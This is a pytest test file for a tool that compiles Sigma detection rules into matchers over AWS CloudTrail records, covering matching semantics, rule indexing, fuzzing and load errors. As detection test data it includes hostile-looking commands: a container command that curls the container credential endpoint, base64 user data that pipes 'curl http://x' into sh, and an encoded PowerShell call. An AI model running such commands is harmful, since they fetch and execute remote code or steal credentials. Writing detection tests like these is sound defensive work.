"""Sigma rules: the bundled set, what a compiled rule means on CloudTrail records, the index it gets, and
how loading fails (all or nothing, every problem with its file and line)."""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from pipeline.cli import main
from pipeline.config import Config
from pipeline.rule import ANY
from pipeline.rules import rule_pack
from pipeline.ruletest import run_rules
from pipeline.sigma import BUNDLED, SigmaLoadError, bundled, load
from tests.support.corpus import FIXTURES

ROOT = Path(__file__).resolve().parents[4]
SIGMA = FIXTURES / "sigma"


def compiled(tmp_path: Path, detection: dict[str, Any], name: str = "rule") -> Any:
    """The compiled detection of a one-rule Sigma file with `detection`."""
    doc = {
        "title": f"Test {name}",
        "id": "0b0b0b0b-1111-4222-8333-944444444444",
        "logsource": {"product": "aws", "service": "cloudtrail"},
        "detection": detection,
        "level": "high",
    }
    path = tmp_path / f"{name}.yml"
    path.write_text(yaml.safe_dump(doc, sort_keys=False))
    return load([path], "test", examples=False).detections[f"sigma-{name}"]


def matches(d: Any, record: dict[str, Any]) -> bool:
    return d.predicate(record)


# --- the bundled rules ---------------------------------------------------------------------------------


def test_the_bundled_set_is_sigmahqs_cloudtrail_rules_with_their_ids_and_licence() -> None:
    files = sorted(BUNDLED.glob("*.yml"))
    assert len(files) == 57
    loaded = bundled()
    by_file = {r.upstream["file"]: r for r in loaded.rules}
    assert set(by_file) == {f.name for f in files}
    for file in files:
        doc = yaml.safe_load(file.read_text())
        rule = by_file[file.name]
        assert rule.upstream["id"] == doc["id"] and rule.title == doc["title"] and rule.origin == "sigma"
        assert rule.id == "sigma-" + file.stem.replace("_", "-")
    assert "Detection Rule License (DRL) 1.1" in (BUNDLED / "LICENSE.Detection.Rules.md").read_text()
    commit = re.search(r"commit `([0-9a-f]{40})`", (BUNDLED / "README.md").read_text()).group(1)
    assert commit in (ROOT / "NOTICE").read_text()


def test_every_bundled_rule_passes_its_generated_matches_and_near_misses() -> None:
    rules = bundled().rules
    for rule in rules:
        assert any(c.expect == 1 for c in rule.cases) and any(c.expect == 0 for c in rule.cases), rule.id
    report = run_rules(rules)
    assert report.ok, [(r.rule_id, r.case, r.got, r.error) for r in report.failures] + report.problems
    assert len(report.results) > 4 * len(rules)


def test_levels_tags_and_the_pack() -> None:
    loaded = {r.id: r for r in bundled().rules}
    trail = loaded["sigma-aws-cloudtrail-disable-logging"]
    assert trail.severity == "medium" and trail.attack == ("T1685.002",)
    assert trail.events == {"cloudtrail.amazonaws.com": frozenset({"StopLogging", "UpdateTrail", "DeleteTrail"})}
    assert loaded["sigma-aws-cloudtrail-guardduty-detector-deleted-or-updated"].severity == "high"
    assert "AssumeRole" in loaded["sigma-aws-sts-assumerole-misuse"].description
    assert not loaded["sigma-aws-sts-assumerole-misuse"].enabled
    pack = rule_pack(Config.from_dict())
    assert {r.id for r in pack} >= set(loaded)
    off = rule_pack(Config.from_dict({"sigma": {"bundled": False}}))
    assert not [r for r in off if r.origin == "sigma"]


def test_allowlists_severity_dedup_and_enabled_apply_as_to_builtin_rules() -> None:
    from pipeline.detector import Detector
    from pipeline.ruletest import complete_record

    rule = next(r for r in bundled().rules if r.id == "sigma-aws-cloudtrail-disable-logging")
    stop = complete_record(
        {"eventSource": "cloudtrail.amazonaws.com", "eventName": "StopLogging", "requestParameters": {"name": "main"}}
    )

    def findings(section: dict[str, Any]) -> list[Any]:
        config = Config.from_dict({"rules": {rule.id: section}})
        from pipeline.event import Event

        return Detector(rules=[rule], config=config).process(Event.from_record(stop))  # type: ignore[arg-type]

    [plain] = findings({})
    assert plain.severity == "medium" and plain.context["sigma_id"] == rule.upstream["id"]
    assert plain.context["sigma_author"] and plain.summary.startswith("AWS CloudTrail Important Change: StopLogging")
    assert findings({"allowlist": {"principals": ["arn:aws:iam::*:user/alice"]}}) == []
    assert findings({"enabled": False}) == []
    [loud] = findings({"severity": "critical", "dedup": "1d"})
    assert loud.severity == "critical" and loud.window != plain.window


# --- what a rule means ---------------------------------------------------------------------------------


def test_strings_ignore_case_except_cased_and_the_indexed_fields(tmp_path: Path) -> None:
    d = compiled(
        tmp_path,
        {
            "sel": {
                "eventSource": "iam.amazonaws.com",
                "userAgent|contains": "Browser",
                "requestParameters.userName": "Bob",
            },
            "condition": "sel",
        },
    )
    call = {"eventSource": "iam.amazonaws.com", "userAgent": "S3 BROWSER 9", "requestParameters": {"userName": "bOB"}}
    assert matches(d, call)
    assert not matches(d, {**call, "eventSource": "IAM.amazonaws.com"})  # CloudTrail's one spelling: exact
    assert d.events == {ANY: ANY} or d.events == {"iam.amazonaws.com": ANY}
    cased = compiled(tmp_path, {"sel": {"userAgent|cased": "Boto3"}, "condition": "sel"}, "cased")
    assert matches(cased, {"userAgent": "Boto3"}) and not matches(cased, {"userAgent": "boto3"})


def test_wildcards_and_an_escaped_star(tmp_path: Path) -> None:
    d = compiled(tmp_path, {"sel": {"requestParameters.name": ["dev-??-*", r"a\*b"]}, "condition": "sel"})
    assert matches(d, {"requestParameters": {"name": "DEV-01-web"}})
    assert not matches(d, {"requestParameters": {"name": "dev-1-web"}})
    assert matches(d, {"requestParameters": {"name": "a*b"}}) and not matches(d, {"requestParameters": {"name": "axb"}})


def test_arrays_match_when_one_element_does_and_not_when_none_does(tmp_path: Path) -> None:
    d = compiled(
        tmp_path,
        {"sel": {"requestParameters.containerDefinitions.command|contains": "$AWS_CONTAINER"}, "condition": "sel"},
    )
    task = {
        "requestParameters": {
            "containerDefinitions": [
                {"command": ["sh", "-c", "echo"]},
                {"command": ["curl $AWS_CONTAINER_CREDENTIALS"]},
            ]
        }
    }
    assert matches(d, task)
    assert not matches(d, {"requestParameters": {"containerDefinitions": [{"command": ["sh"]}]}})
    n = compiled(
        tmp_path,
        {
            "sel": {"eventName": "RunInstances"},
            "tag": {"requestParameters.tags": "keep"},
            "condition": "sel and not tag",
        },
        "none",
    )
    assert matches(n, {"eventName": "RunInstances", "requestParameters": {"tags": ["a", "b"]}})
    assert not matches(n, {"eventName": "RunInstances", "requestParameters": {"tags": ["a", "keep"]}})


def test_an_object_reads_as_its_json_with_the_strings_inside_unescaped(tmp_path: Path) -> None:
    d = compiled(
        tmp_path, {"sel": {"requestParameters|contains|all": ['"s3:GetObject"', '"Allow"']}, "condition": "sel"}
    )
    policy = json.dumps({"Statement": [{"Effect": "Allow", "Action": "s3:GetObject"}]})
    assert matches(d, {"requestParameters": {"policyDocument": policy, "userName": "x"}})
    assert not matches(d, {"requestParameters": {"policyDocument": policy.replace("Allow", "Deny")}})


def test_null_exists_numbers_and_booleans(tmp_path: Path) -> None:
    d = compiled(
        tmp_path,
        {
            "a": {"errorCode": None},
            "b": {"requestParameters.fromPort": 22},
            "c": {"requestParameters.force": True},
            "e": {"userAgent|exists": False},
            "condition": "a and b and c and e",
        },
    )
    good = {"requestParameters": {"fromPort": 22, "force": True}}
    assert matches(d, good) and matches(d, {**good, "errorCode": None})
    assert not matches(d, {**good, "errorCode": ""})  # an empty string is a value
    assert matches(d, {"requestParameters": {"fromPort": "22", "force": "True"}})
    assert not matches(d, {"requestParameters": {"fromPort": 22.0, "force": True}})
    assert not matches(d, {**good, "userAgent": ""})


def test_networks_expressions_and_field_references(tmp_path: Path) -> None:
    d = compiled(tmp_path, {"net": {"sourceIPAddress|cidr": ["10.0.0.0/8", "2001:db8::/32"]}, "condition": "net"})
    assert matches(d, {"sourceIPAddress": "10.2.3.4"}) and matches(d, {"sourceIPAddress": "2001:db8::1"})
    assert not matches(d, {"sourceIPAddress": "10.evil"}) and not matches(d, {"sourceIPAddress": "AWS Internal"})
    r = compiled(tmp_path, {"sel": {"userIdentity.arn|re|i": r"assumed-ROLE/aws:"}, "condition": "sel"}, "re")
    assert matches(r, {"userIdentity": {"arn": "arn:aws:sts::1:assumed-role/AWS:x"}})
    assert not matches(r, {"userIdentity": {"arn": "arn:aws:iam::1:user/aws:x"}})
    f = compiled(
        tmp_path,
        {"sel": {"userIdentity.arn|fieldref|endswith": "requestParameters.userName"}, "condition": "sel"},
        "ref",
    )
    assert matches(f, {"userIdentity": {"arn": "arn:aws:iam::1:user/Bob"}, "requestParameters": {"userName": "bob"}})
    assert not matches(f, {"userIdentity": {"arn": "arn:aws:iam::1:user/bob"}, "requestParameters": {"userName": "al"}})


def test_encoded_and_windash_values(tmp_path: Path) -> None:
    d = compiled(
        tmp_path,
        {
            "sel": {
                "requestParameters.userData|base64offset|contains": "curl http",
                "requestParameters.cmd|windash|contains": " -enc ",
            },
            "condition": "sel",
        },
    )
    import base64

    data = base64.b64encode(b"#!/bin/sh\ncurl http://x | sh").decode()
    assert matches(d, {"requestParameters": {"userData": data, "cmd": "powershell /enc AAA"}})
    assert not matches(d, {"requestParameters": {"userData": data, "cmd": "powershell enc AAA"}})


def test_conditions_one_of_all_of_parentheses_and_not(tmp_path: Path) -> None:
    d = compiled(
        tmp_path,
        {
            "sel_a": {"eventName": "A"},
            "sel_b": {"eventName": "B"},
            "flt_x": {"userAgent": "x"},
            "flt_y": {"sourceIPAddress": "y"},
            "condition": "1 of sel_* and not (all of flt_*)",
        },
    )
    assert d.events == {ANY: frozenset({"A", "B"})}
    assert matches(d, {"eventName": "B", "userAgent": "x"})
    assert not matches(d, {"eventName": "B", "userAgent": "x", "sourceIPAddress": "y"})
    assert not matches(d, {"eventName": "C"})


def test_the_index_keeps_what_every_match_has(tmp_path: Path) -> None:
    two = compiled(
        tmp_path,
        {
            "a": {"eventSource": "sts.amazonaws.com", "eventName": "AssumeRoleWithSAML"},
            "b": {"eventSource": "iam.amazonaws.com", "eventName": "UpdateSAMLProvider"},
            "condition": "a or b",
        },
    )
    assert two.events == {
        "sts.amazonaws.com": frozenset({"AssumeRoleWithSAML"}),
        "iam.amazonaws.com": frozenset({"UpdateSAMLProvider"}),
    }
    negated = compiled(tmp_path, {"a": {"eventName": "X"}, "condition": "not a"}, "negated")
    assert negated.events == {ANY: ANY}
    wild = compiled(
        tmp_path,
        {"a": {"eventSource": "lambda.amazonaws.com", "eventName|startswith": "Update"}, "condition": "a"},
        "wild",
    )
    assert wild.events == {"lambda.amazonaws.com": ANY}


records = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(),
    lambda inner: (
        st.lists(inner, max_size=4)
        | st.dictionaries(
            st.sampled_from(["arn", "type", "userName", "eventName", "commands", "layers", "x"]), inner, max_size=4
        )
    ),
    max_leaves=20,
)
FIELDS = [
    "eventSource",
    "eventName",
    "userIdentity",
    "userAgent",
    "requestParameters",
    "responseElements",
    "errorCode",
    "errorMessage",
    "sourceIPAddress",
    "additionalEventData",
    "eventType",
]


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.dictionaries(st.sampled_from(FIELDS), records, max_size=8))
def test_predicates_never_raise_on_hostile_records(record: dict[str, Any]) -> None:
    own = load([SIGMA / "modifiers"], "test rules", examples=False)
    for d in list(bundled().detections.values()) + list(own.detections.values()):
        assert d.predicate(record) in (True, False)


def test_a_lone_surrogate_or_a_deep_record_is_just_no_match() -> None:
    deep: Any = "x"
    for _ in range(5000):
        deep = [deep]
    own = load([SIGMA / "modifiers"], "test rules", examples=False)
    for d in list(bundled().detections.values()) + list(own.detections.values()):
        for record in (
            {"userIdentity": {"arn": "\ud800:assumed-role/aws:x"}, "userAgent": "\udfff"},
            {"userIdentity": deep, "requestParameters": {"a": deep}},
        ):
            assert d.predicate(record) in (True, False)


# --- bad input -----------------------------------------------------------------------------------------


def test_a_folder_with_bad_rules_loads_nothing_and_lists_every_problem() -> None:
    with pytest.raises(SigmaLoadError) as exc:
        load([SIGMA / "bad"], "Sigma rules of bad/")
    problems = {p.file.name: p for p in exc.value.problems}
    assert set(problems) == {
        "broken.yml",
        "unknown-modifier.yml",
        "keyword.yml",
        "windows.yml",
        "missing-reference.yml",
    }
    assert problems["broken.yml"].line == 8 and "not valid YAML" in problems["broken.yml"].text
    assert (
        problems["unknown-modifier.yml"].line == 9
        and "unknown modifier 'containz'" in problems["unknown-modifier.yml"].text
    )
    assert "keyword search is not supported" in problems["keyword.yml"].text
    assert problems["windows.yml"].line == 3 and "product: windows" in problems["windows.yml"].text
    assert problems["missing-reference.yml"].line == 5 and "'no_such_rule'" in problems["missing-reference.yml"].text
    text = str(exc.value)
    assert "5 problem(s); nothing was loaded" in text and "bad/windows.yml:3:" in text


def test_one_bad_rule_beside_good_ones_stops_the_command(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    folder = tmp_path / "rules"
    folder.mkdir()
    for file in (SIGMA / "modifiers").glob("*.yml"):
        (folder / file.name).write_text(file.read_text())
    (folder / "bad.yml").write_text((SIGMA / "bad" / "unknown-modifier.yml").read_text())
    trail = tmp_path / "trail.jsonl"
    trail.write_text(
        json.dumps(
            {
                "eventSource": "sts.amazonaws.com",
                "eventName": "GetCallerIdentity",
                "eventTime": "2024-07-01T14:00:00Z",
                "eventID": "e1",
            }
        )
        + "\n"
    )
    assert main(["scan", str(trail), "--sigma", str(folder)]) == 2
    err = capsys.readouterr().err
    assert "bad.yml:9:" in err and "unknown modifier 'containz'" in err and "nothing was loaded" in err
    config = tmp_path / "trailwarden.toml"
    config.write_text('[sigma]\nfolders = ["rules"]\n')
    assert main(["config", "--check", str(config)]) == 2
    assert "bad.yml:9:" in capsys.readouterr().err
    (folder / "bad.yml").unlink()
    assert main(["config", "--check", str(config)]) == 0


@pytest.mark.parametrize(
    ("correlation", "message"),
    [
        (
            {"type": "event_count", "rules": ["base"], "timespan": "5m", "condition": {"lt": 3}},
            "condition lt is not supported: only gte and gt are evaluated in the stream",
        ),
        (
            {"type": "value_sum", "rules": ["base"], "timespan": "5m", "condition": {"field": "x", "gte": 3}},
            "is not supported: only event_count, value_count, temporal and temporal_ordered",
        ),
        (
            {"type": "temporal_ordered", "rules": ["base", "base2", "base3"], "timespan": "5m"},
            "temporal_ordered is not supported: over 3 rules",
        ),
        (
            {"type": "value_count", "rules": ["base"], "timespan": "5m", "condition": {"gte": 3}},
            "correlation rule without field reference",
        ),
    ],
)
def test_correlations_that_cannot_be_decided_in_the_stream_are_refused(
    tmp_path: Path, correlation: dict[str, Any], message: str
) -> None:
    docs = [
        {
            "title": f"b{i}",
            "name": name,
            "logsource": {"product": "aws", "service": "cloudtrail"},
            "detection": {"s": {"eventName": f"E{i}"}, "condition": "s"},
        }
        for i, name in enumerate(["base", "base2", "base3"])
    ]
    docs.append({"title": "corr", "name": "corr", "correlation": correlation})
    path = tmp_path / "c.yml"
    path.write_text(yaml.safe_dump_all(docs, sort_keys=False))
    with pytest.raises(SigmaLoadError) as exc:
        load([path], "test")
    assert message in str(exc.value), str(exc.value)
    assert re.search(r"c\.yml:\d+: rule 'corr'", str(exc.value))


def test_a_correlation_of_a_bundled_rule_and_an_impossible_condition(tmp_path: Path) -> None:
    path = tmp_path / "mine.yml"
    path.write_text(
        yaml.safe_dump(
            {
                "title": "Trail changed twice",
                "name": "trail_twice",
                "correlation": {
                    "type": "event_count",
                    "rules": ["4db60cc0-36fb-42b7-9b58-a5b53019fb74"],
                    "timespan": "1h",
                    "group-by": ["userIdentity.arn"],
                    "condition": {"gte": 2},
                },
            }
        )
    )
    rule = load([path], "mine", bundled().detections).rules[0]
    assert rule.id == "sigma-trail-twice" and rule.kind == "threshold" and rule.attack == ("T1685.002",)
    assert rule.events == {"cloudtrail.amazonaws.com": frozenset({"StopLogging", "UpdateTrail", "DeleteTrail"})}
    report = run_rules([rule])
    assert report.ok and len(report.results) >= 3, report.failures
    with pytest.raises(SigmaLoadError, match="can never hold"):
        compiled(tmp_path, {"a": {"eventName": "A"}, "b": {"eventName": "B"}, "condition": "a and b"}, "never")


def test_rules_list_and_show_name_the_source(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["rules", "--sigma", str(SIGMA / "correlations"), "list", "--source", "sigma", "--format", "json"]) == 0
    listed = {r["id"]: r for r in json.loads(capsys.readouterr().out)}
    assert listed["sigma-denied-burst"]["kind"] == "threshold" and listed["sigma-key-then-admin"]["kind"] == "sequence"
    assert "sigma-denied-call" not in listed  # referred to by a correlation without `generate: true`
    assert {r["source"] for r in listed.values()} == {"sigma"}
    assert main(["rules", "show", "sigma-aws-cloudtrail-disable-logging"]) == 0
    shown = capsys.readouterr().out
    assert "source:    sigma, id 4db60cc0-36fb-42b7-9b58-a5b53019fb74, file aws_cloudtrail_disable_logging.yml" in shown
